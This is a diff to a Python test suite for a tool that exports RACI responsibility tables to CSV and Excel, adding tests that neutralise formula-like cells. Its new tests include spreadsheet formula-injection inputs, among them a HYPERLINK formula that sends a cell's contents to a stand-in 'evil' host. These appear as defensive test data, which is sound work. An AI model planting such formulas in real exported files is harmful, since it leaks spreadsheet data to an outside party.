@@ -159,7 +159,8 @@ def test_raci_csv_round_trip(sample_store, graph) -> None:
     rows = list(csv.reader(io.StringIO(run("export", "raci", "--db", sample_store, "--format", "csv"))))
     assert rows[0][:5] == ["Văn bản / Document", "Ngày / Date", "Mục / Item", "Nhiệm vụ / Measure",
                            "Thời hạn / Deadline"]
-    assert rows == [header, maps.raci_ids(table), *body]  # names, then ids, then the measures
+    expected = [[maps.inert(v) for v in row] for row in (header, maps.raci_ids(table), *body)]
+    assert rows == expected  # names, then ids, then the measures (formula-like cells made inert)
     assert rows[1][0] == "Mã / Id" and rows[1][5:] == [actor for actor, _ in table.columns]
 
 
@@ -244,7 +245,7 @@ def test_raci_xlsx_round_trip(sample_store, graph, tmp_path) -> None:
     wb = load_workbook(path)
     ws = wb["RACI"]
     read = [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]
-    assert read == [header, maps.raci_ids(table), *body]
+    assert read == [[maps.inert(v) for v in row] for row in (header, maps.raci_ids(table), *body)]
     last = ws.cell(1, len(header)).column_letter
     assert ws.freeze_panes == "F3" and ws.auto_filter.ref == f"A2:{last}{len(body) + 2}"
     assert ws["D3"].alignment.wrap_text and ws["A1"].font.bold
@@ -405,3 +406,23 @@ def test_stdout_is_utf8_even_on_a_narrow_console(sample_store) -> None:
         out = subprocess.run([sys.executable, "-c", "from chidao.cli import main; main()", "export", *args,
                               "--db", sample_store], capture_output=True, env=env, timeout=120, check=True).stdout
         assert "Tuyên giáo".encode() in out and b"\r\n" not in out
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ('=HYPERLINK("http://x"&A3, "y")', '\'=HYPERLINK("http://x"&A3, "y")'),
+    ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("Ban Tuyên giáo", "Ban Tuyên giáo"), (3, 3), (None, None),
+])
+def test_cells_that_could_start_a_formula_are_inert(value, cell) -> None:
+    assert maps.inert(value) == cell
+
+
+def test_xlsx_holds_no_formula(sample_store, graph, tmp_path, monkeypatch) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    table = maps.raci(graph)
+    table.rows[0]["measure"] = '=HYPERLINK("http://evil"&A3, "x")'
+    out = tmp_path / "r.xlsx"
+    maps.write_raci_xlsx(table, out)
+    values = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
+    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
+    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)
